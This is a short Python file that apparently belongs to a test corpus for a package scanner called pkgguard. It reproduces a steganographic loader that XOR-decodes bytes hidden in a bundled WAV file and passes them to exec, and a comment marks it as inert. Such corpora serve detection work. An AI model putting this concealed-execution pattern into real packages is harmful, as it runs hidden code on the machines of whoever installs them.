# pkgguard corpus 051 (steganography), modelled on [telnyx]; inert, never run.
import os
import wave

with wave.open(os.path.join(os.path.dirname(__file__), "chime.wav")) as w:
    frames = w.readframes(w.getnframes())
key = frames[:16]
payload = bytes(b ^ key[i % 16] for i, b in enumerate(frames[16:4096]))
exec(payload.rstrip(b"\x00"))
